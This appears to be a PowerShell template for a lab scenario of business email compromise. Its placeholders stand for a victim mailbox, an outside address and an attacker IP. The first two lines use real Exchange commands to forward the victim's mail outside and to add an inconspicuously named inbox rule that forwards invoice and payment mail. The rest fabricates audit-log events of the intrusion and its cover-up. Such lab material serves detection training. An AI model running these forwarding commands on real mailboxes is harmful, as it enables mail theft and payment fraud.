Set-Mailbox '{{victim}}' -ForwardingSmtpAddress 'smtp:{{outside}}' -DeliverToMailboxAndForward $true
$null = New-InboxRule -Mailbox '{{victim}}' -Name '...' -SubjectContainsWords 'invoice', 'payment' -ForwardTo '{{outside}}' -StopProcessingRules $true
Add-LabEntry '{{victim}}' -Operation MailboxLogin -At '2026-05-01 08:02' -Count 9 -Minutes 1440 -ClientIP 10.7.13.21
Add-LabEntry '{{victim}}' -Operation MailboxLogin -At '{{start}} 03:17' -Client OWA -ClientIP '{{ip}}'
Add-LabEntry '{{victim}}' -Operation MailItemsAccessed -At '{{start}} 03:19' -Count 6 -Minutes 3 -Client OWA -ClientIP '{{ip}}'
Add-LabEntry '{{victim}}' -Operation UpdateInboxRules -At '{{start}} 03:41' -Client OWA -ClientIP '{{ip}}' -Rule 'Name=...;ForwardTo={{outside}}'
Add-LabEntry '{{victim}}' -Operation MailboxLogin -At '{{start}} 22:50' -Client OWA -ClientIP '{{ip}}'
Add-LabEntry '{{victim}}' -Operation Send -At '{{start}} 22:58' -Folder '\Sent Items' -Subject '{{subject}}' -Client OWA -ClientIP '{{ip}}'
Add-LabEntry '{{victim}}' -Operation SoftDelete -At '{{start}} 23:01' -Folder '\Sent Items' -Subject '{{subject}}' -Client OWA -ClientIP '{{ip}}'
